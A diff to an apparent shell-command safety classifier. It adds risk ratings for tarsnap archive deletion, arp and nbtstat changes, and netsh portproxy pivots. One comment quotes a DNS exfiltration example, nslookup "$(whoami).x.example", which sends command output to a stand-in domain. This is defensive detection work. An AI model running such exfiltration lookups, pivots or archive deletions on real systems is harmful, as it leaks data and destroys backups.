@@ -15,7 +15,7 @@ from aintern_ls.safety.context import (
     STDIN_STATIC,
     Cmd,
 )
-from aintern_ls.safety.levels import C, D, M
+from aintern_ls.safety.levels import B, C, D, M
 from aintern_ls.safety.paths import is_secret, write_target
 from aintern_ls.safety.registry import (
     handles,
@@ -631,6 +631,19 @@ def _backup(cmd: Cmd) -> None:
     cmd.add(M, "write", f"{cmd.name} {sub} reads or writes a backup repository")
 
 
+@handles("tarsnap")
+def _tarsnap(cmd: Cmd) -> None:
+    """`tarsnap -d` deletes an archive, `--nuke` every archive; `-c` uploads; `--list-archives`,
+    `-t`, `--print-stats` only read."""
+    low = [t.lower() for t in cmd.texts()]
+    if "--nuke" in low:
+        cmd.add(B, "backup-delete", "tarsnap --nuke deletes every archive")
+    elif cmd.short("d"):
+        cmd.add(D, "backup-delete", "tarsnap -d deletes an archive")
+    elif cmd.short("cx") or "--recover" in low or "--fsck" in low:
+        cmd.add(M, "write", "tarsnap writes an archive or local files")
+
+
 # --- DNS exfiltration, every resolver in every shell (safety-p5) -------------------------
 # A name looked up carries its labels to whoever runs that domain's name server: a name
 # built from a command's output (`nslookup "$(whoami).x.example"`, cmd's `for /f … do
@@ -857,3 +870,26 @@ def substituted_destination(cmd: Cmd) -> Word | None:
         if "@" in raw or re.search(r"\)\.[\w-]+\.", inner) or re.search(r"`\.[\w-]+\.", raw):
             return w
     return None
+
+
+# --- address tables, port forwards (moved here from the session-6 `atomics.py`/`families6.py`) --
+@handles("arp")
+def _arp(cmd: Cmd) -> None:
+    """`arp -a` prints the address cache; `arp -d/-s/-f` change it."""
+    if cmd.name == "arp" and cmd.short("dsfS"):
+        cmd.add(M, "network", "arp changes the address cache")
+
+
+@handles("nbtstat", windows_only=True)
+def _nbtstat(cmd: Cmd) -> None:
+    """`nbtstat -n/-a/-c/-s`: NetBIOS tables; `-R`/`-RR` purge or re-register names."""
+    if any(t in ("-R", "-RR", "/R", "/RR") for t in cmd.texts()):
+        cmd.add(M, "network", "nbtstat purges or re-registers NetBIOS names")
+
+
+def port_proxy(cmd: Cmd, name: str, joined: str) -> bool:
+    """`netsh interface portproxy add|set`: a port forward through this machine (a pivot)."""
+    if name == "netsh" and re.search(r"\binterface\s+portproxy\s+(?:add|set)\b", joined):
+        cmd.add(C, "network", "netsh portproxy forwards a port through this machine (a pivot)")
+        return True
+    return False
